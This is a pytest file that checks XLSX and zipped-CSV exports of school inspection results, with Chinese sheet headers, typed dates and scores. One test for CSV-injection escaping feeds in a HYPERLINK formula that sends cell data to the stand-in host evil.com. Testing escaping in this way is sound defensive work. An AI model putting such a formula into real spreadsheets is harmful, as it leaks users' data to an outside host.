"""XLSX and zipped-CSV exports: the right sheets, Chinese headers and the scored numbers."""

from __future__ import annotations

import csv
import io
import threading
import zipfile
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from inspect_app.bureau import export_jobs
from inspect_app.storage.db import open_database

from .support import TERM, csrf_token


def _export(client, fmt: str, query: dict):
    """Ask for an export as the page's button does, let the worker write it (in this
    process), and download it."""
    token = csrf_token(client, "/bureau/bulletins")
    response = client.post("/bureau/exports", data={**query, "format": fmt, "csrf_token": token})
    assert response.status_code == 302
    job_id = int(response.headers["Location"].rsplit("/", 1)[1])
    config = client.application.config
    db = open_database(config["DATABASE"])
    try:
        assert export_jobs.ExportWorker(config, threading.Event()).run_once(db)
    finally:
        db.close()
    return client.get(f"/bureau/exports/{job_id}/download")


def _workbook(client):
    response = _export(client, "xlsx", {**TERM, "checklist": "fupin_comprehensive"})
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in response.headers["Content-Disposition"]
    return load_workbook(io.BytesIO(response.data), read_only=True)


def test_xlsx_holds_the_schools_items_findings_and_rectifications(client, auth, received):
    auth.login("bureau")
    wb = _workbook(client)
    assert wb.sheetnames == ["学校汇总", "检查条目", "问题清单", "整改情况", "满意度测评"]
    schools = list(wb["学校汇总"].values)
    assert schools[0][:4] == ("排名", "学校代码", "学校名称", "乡镇")
    by_code = {row[1]: row for row in schools[1:]}
    assert by_code["A001"][10] == received["results"]["a_new"]["total"]
    assert by_code["A001"][11] == received["results"]["a_new"]["grade"]
    assert by_code["A001"][14] == received["results"]["a_old"]["total"]
    c003 = by_code["C003"] + (None,) * 20  # empty trailing cells are not stored
    assert c003[5] == "否" and c003[10] is None  # not inspected this term
    items = list(wb["检查条目"].values)
    term_results = [received["results"][n] for n in ("a_old", "a_new", "b")]
    assert len(items) - 1 == sum(len(r["items"]) for r in term_results)
    earned = {}
    for row in items[1:]:
        earned[row[0]] = earned.get(row[0], 0) + (row[12] or 0)
    for name in ("a_old", "a_new", "b"):
        expected = sum(s["earned"] for s in received["results"][name]["sections"])
        assert round(earned[received["ids"][name]], 2) == round(expected, 2)
    findings = list(wb["问题清单"].values)
    assert len(findings) - 1 == sum(len(r["findings"]) for r in term_results)
    problems = {row[10] for row in findings[1:]}
    assert {f["problem"] for r in term_results for f in r["findings"]} == problems
    rect = list(wb["整改情况"].values)
    status, unit = rect[0].index("状态"), rect[0].index("责任单位")
    assert {row[status] for row in rect[1:]} == {"待整改"}
    # Each item names who must fix it: the school, or the county unit the checklist assigns.
    assert {row[unit] for row in rect[1:]} >= {"学校"} and all(row[unit] for row in rect[1:])
    assert findings[0].index("责任单位") == findings[0].index("整改措施") + 1


def test_rows_come_by_school_and_date_items_in_checklist_order(client, auth, received):
    auth.login("bureau")
    wb = _workbook(client)
    checklist_order = [i["id"] for s in received["checklist"]["sections"] for i in s["items"]]
    items = list(wb["检查条目"].values)[1:]
    assert [(r[3], r[1]) for r in items] == sorted((r[3], r[1]) for r in items)
    a_new = [r[9] for r in items if r[0] == received["ids"]["a_new"]]
    assert a_new == [i for i in checklist_order if i in a_new]
    assert len(a_new) == len(received["results"]["a_new"]["items"])
    findings = [r for r in list(wb["问题清单"].values)[1:] if r[0] == received["ids"]["a_old"]]
    labels = {i["label"]: i["id"] for s in received["checklist"]["sections"] for i in s["items"]}
    failed = [labels[r[8]] for r in findings]
    assert failed and failed == [i for i in checklist_order if i in failed]
    rect = [r for r in list(wb["整改情况"].values)[1:]]
    assert [(r[0], r[3], r[4]) for r in rect] == sorted((r[0], r[3], r[4]) for r in rect)


def test_csv_zip_has_one_bom_csv_per_sheet_with_the_same_rows(client, auth, received):
    auth.login("bureau")
    wb = _workbook(client)
    response = _export(client, "zip", {**TERM, "checklist": "fupin_comprehensive"})
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    names = archive.namelist()
    assert names == ["1-学校汇总.csv", "2-检查条目.csv", "3-问题清单.csv", "4-整改情况.csv",
                     "5-满意度测评.csv"]  # fmt: skip
    for name, sheet in zip(names, wb.sheetnames, strict=True):
        raw = archive.read(name)
        assert raw.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert len(rows) == len(list(wb[sheet].values))
        assert rows[0] == [str(v) for v in next(iter(wb[sheet].values))]


def test_export_of_an_empty_period_still_has_headers(client, auth, received):
    auth.login("bureau")
    response = _export(client, "xlsx", {"period": "month", "key": "2025-01"})
    wb = load_workbook(io.BytesIO(response.data), read_only=True)
    assert [len(list(wb[name].values)) for name in wb.sheetnames] == [4, 1, 1, 1, 1]


def test_answers_read_as_the_report_prints_them(client, auth, received):
    auth.login("bureau")
    wb = _workbook(client)
    items = {i["id"]: i for s in received["checklist"]["sections"] for i in s["items"]}
    shown = {"choice": set(), "yesno": set()}
    for row in list(wb["检查条目"].values)[1:]:
        item, value = items[row[9]], row[14]
        if item["type"] == "choice" and value:
            assert value in {c["label"] for c in item["choices"]}, (row[9], value)
            shown["choice"].add(value)
        if item["type"] == "yesno" and value:
            assert value in {"是", "否"}
            shown["yesno"].add(value)
    assert shown["choice"] and shown["yesno"]  # both kinds were answered in the fixture


def test_a_requested_extension_is_shown_and_stops_no_clock(app, client, auth, db, received):
    from inspect_app.rectification import rules
    from inspect_app.storage import rectifications

    item = rectifications.for_inspection(db, received["ids"]["a_old"])[0]
    until = (date.fromisoformat(item["deadline"]) + timedelta(days=30)).isoformat()
    move = rules.decide(
        item, "request_extension", "school", date.fromisoformat(item["deadline"]),
        reason="设备到货延迟", until=until,
    )  # fmt: skip
    rectifications.apply(db, item, move, version=item["version"], user_id=None, actor="学校")
    app.config["TODAY_OVERRIDE"] = (
        date.fromisoformat(item["deadline"]) + timedelta(days=3)
    ).isoformat()
    auth.login("bureau")
    rows = list(_workbook(client)["整改情况"].values)
    header, rows = rows[0], rows[1:]
    (row,) = [
        r for r in rows if r[0] == "A001" and r[3] == datetime(2026, 9, 15) and r[4] == item["seq"]
    ]
    shown = dict(zip(header, row, strict=False))
    assert shown["申请延期至"] == datetime.fromisoformat(until)
    assert (shown["是否逾期"], shown["逾期天数"]) == ("是", 3)


def test_a_sign_off_dates_by_the_beijing_day(client, auth, db, received):
    # signed off at 07:40 on 1 December in Beijing, stored as 23:40 UTC on 30 November: the
    # 销号日期 is the day the school's and the bureau's pages show, the 1st
    db.execute("UPDATE rectifications SET status = 'closed', closed_at = '2026-11-30T23:40:00Z'")
    auth.login("bureau")
    rows = list(_workbook(client)["整改情况"].values)
    header, rows = rows[0], rows[1:]
    days = {dict(zip(header, r, strict=False))["销号日期"] for r in rows}
    assert days == {datetime(2026, 12, 1)}


def test_answers_are_read_from_the_covering_index(db):
    """Each inspection's answers are one index range, never a seek per row into the table
    (migration 0015; a province's year is 3.2 M answers)."""
    plan = db.execute(
        "EXPLAIN QUERY PLAN SELECT item_id, outcome, earned, possible, value, note "
        "FROM inspection_answers WHERE inspection_id = ?",
        ["x"],
    ).fetchall()
    assert "COVERING INDEX inspection_answers_export" in " ".join(str(row[-1]) for row in plan)


def test_text_that_a_spreadsheet_would_run_is_escaped_in_csv(client, auth, db, received):
    """OWASP CSV injection: =, +, -, @, tab and CR at the start of a cell get a leading quote."""
    typed = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    db.execute("UPDATE rectifications SET problem = ?, action = ?", [typed, "@SUM(1+1)"])
    db.execute("UPDATE rectification_findings SET problem = ?", [typed])  # as each visit found it
    auth.login("bureau")
    response = _export(client, "zip", {**TERM, "checklist": "fupin_comprehensive"})
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    rows = list(csv.reader(io.StringIO(archive.read("4-整改情况.csv").decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert body
    problem, measures = header.index("问题描述"), header.index("整改措施")
    assert {row[problem] for row in body} == {"'" + typed}
    assert {row[measures] for row in body} == {"'@SUM(1+1)"}
    # Nothing else starts with a formula character unescaped, in any sheet.
    for name in archive.namelist():
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))):
            assert not any(cell[:1] in ("=", "+", "@") for cell in row), (name, row)
    # The XLSX keeps the text as text (a string cell, never a formula), unchanged.
    sheet = _workbook(client)["整改情况"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == typed]
    assert cells and all(c.data_type == "s" for c in cells)


def test_numbers_are_not_escaped():
    from inspect_app.bureau.exports import _csv_value

    assert _csv_value(-3.0) == -3 and _csv_value(-2.5) == -2.5
    assert _csv_value("-") == "'-" and _csv_value("\t=1") == "'\t=1"
    assert _csv_value("正常文字") == "正常文字"


def test_cells_are_typed_dates_numbers_and_percentages(client, auth, db, received):
    """Dates sort and filter as dates, scores add up, rates show as percentages; the
    checklist is named by its title, with its id beside it."""
    auth.login("bureau")
    response = _export(client, "xlsx", {**TERM, "checklist": "fupin_comprehensive"})
    book = load_workbook(io.BytesIO(response.data))  # not read-only: cell styles are read
    sheet = book["学校汇总"]
    header = [c.value for c in sheet[1]]
    a001 = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "A001")
    cell = dict(zip(header, a001, strict=False))
    assert cell["最近检查日期"].is_date and cell["最近检查日期"].value == datetime(2026, 11, 20)
    assert cell["最近检查日期"].number_format == "yyyy-mm-dd"
    assert cell["检查单"].value == received["checklist"]["title"]
    assert cell["检查单编号"].value == "fupin_comprehensive"
    assert cell["得分"].data_type == "n"
    assert cell["得分"].value == received["results"]["a_new"]["total"]
    rates = [cell[h] for h in header if h.endswith("（得分率）")]
    sections = {s["title"]: s for s in received["results"]["a_new"]["sections"]}
    assert any(c.value is not None for c in rates)
    assert all(c.number_format == "0.0%" for c in rates if c.value is not None)
    for title, c in zip(
        [h[: -len("（得分率）")] for h in header if h.endswith("（得分率）")], rates, strict=True
    ):
        s = sections[title]
        if s["possible"]:
            assert c.value == pytest.approx(s["earned"] / s["possible"], abs=1e-3)
    items = book["检查条目"]
    header = [c.value for c in items[1]]
    row = dict(zip(header, next(items.iter_rows(min_row=2)), strict=False))
    assert row["检查日期"].is_date and row["检查单编号"].value == "fupin_comprehensive"
    assert isinstance(row["满分"].value, int | float)
    rect = book["整改情况"]
    header = [c.value for c in rect[1]]
    row = dict(zip(header, next(rect.iter_rows(min_row=2)), strict=False))
    assert row["整改时限"].is_date and row["检查日期"].is_date
    # the CSV copy writes the same cells as text a person reads
    archive = zipfile.ZipFile(io.BytesIO(_export(client, "zip", {**TERM, "checklist": "fupin_comprehensive"}).data))  # fmt: skip
    rows = list(csv.reader(io.StringIO(archive.read("1-学校汇总.csv").decode("utf-8-sig"))))
    shown = dict(zip(rows[0], next(r for r in rows[1:] if r[1] == "A001"), strict=False))
    assert shown["最近检查日期"] == "2026-11-20" and shown["检查单编号"] == "fupin_comprehensive"
    assert all(shown[h].endswith("%") for h in rows[0] if h.endswith("（得分率）") and shown[h])
